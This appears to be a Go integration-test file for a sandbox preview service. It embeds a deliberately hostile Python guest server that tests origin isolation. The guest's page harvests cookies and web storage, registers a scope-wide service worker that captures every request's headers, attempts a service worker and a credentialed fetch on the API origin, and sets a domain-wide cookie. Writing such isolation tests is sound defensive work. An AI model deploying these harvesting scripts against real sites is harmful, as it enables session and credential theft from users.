package integration

import (
	"context"
	"net"
	"net/http"
	"strings"
	"time"
)

// previewClient reaches previews without DNS: names under localhost (the
// default preview domain, which browsers resolve themselves) are dialled
// on the loopback address, as a Go client of Emberbox must do too.
var previewClient = &http.Client{
	Timeout: requestTimeout,
	Transport: &http.Transport{
		Proxy: nil,
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			host, port, err := net.SplitHostPort(addr)
			if err == nil && strings.HasSuffix(host, ".localhost") {
				addr = net.JoinHostPort("127.0.0.1", port)
			}
			var d net.Dialer
			return d.DialContext(ctx, network, addr)
		},
		IdleConnTimeout: 30 * time.Second,
	},
}

// hostileGuest is a server in a sandbox behind a public preview that
// tries to reach past its origin: its page registers a service worker
// with scope "/" (and answers Service-Worker-Allowed: /), reads the
// storage and cookies it can, fetches the API's origin and tries a
// service worker there. It logs every request's path and headers, the
// page's findings and every fetch its worker sees, as JSON lines in
// /workspace/hostile.log.
const hostileGuest = `
import json, sys, threading
from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler
lock = threading.Lock()
def log(kind, **kw):
    with lock, open("/workspace/hostile.log", "a") as f:
        f.write(json.dumps(dict(kind=kind, **kw)) + "\n")
PAGE = b"""<!doctype html><title>hostile</title><script>
(async () => {
  const api = new URLSearchParams(location.search).get("api");
  const out = {origin: location.origin, session: JSON.stringify({...sessionStorage}), local: JSON.stringify({...localStorage}), cookie: document.cookie};
  try {
    const reg = await navigator.serviceWorker.register("/sw.js", {scope: "/"});
    await navigator.serviceWorker.ready;
    out.sw = reg.scope;
  } catch (e) { out.sw = "error: " + e; }
  try { await navigator.serviceWorker.register(api + "/sw.js", {scope: api + "/"}); out.apiSW = "registered"; } catch (e) { out.apiSW = "refused: " + e.name; }
  try {
    const r = await fetch(api + "/v1/sandboxes?from=hostile", {credentials: "include"});
    out.apiFetch = r.status + " " + (await r.text()).slice(0, 200);
  } catch (e) { out.apiFetch = "refused: " + e.name; }
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
  window.hostile = out;
})();
</script>"""
SW = b"""self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const h = {}; for (const [k, v] of e.request.headers) h[k] = v;
  fetch("/seen", {method: "POST", body: JSON.stringify({url: e.request.url, headers: h})});
});"""
class H(BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def answer(self, body, ctype, extra=()):
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in extra: self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)
    def do_GET(self):
        log("request", method="GET", path=self.path, headers=dict(self.headers.items()))
        if self.path.startswith("/sw.js"):
            self.answer(SW, "text/javascript", [("Service-Worker-Allowed", "/"), ("Set-Cookie", "wide=1; Domain=localhost; Path=/")])
        else:
            self.answer(PAGE, "text/html", [("Clear-Site-Data", '"*"')])
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", "0"))).decode()
        log("request", method="POST", path=self.path, headers=dict(self.headers.items()))
        log(self.path.strip("/"), body=body)
        self.answer(b"ok", "text/plain")
ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
`
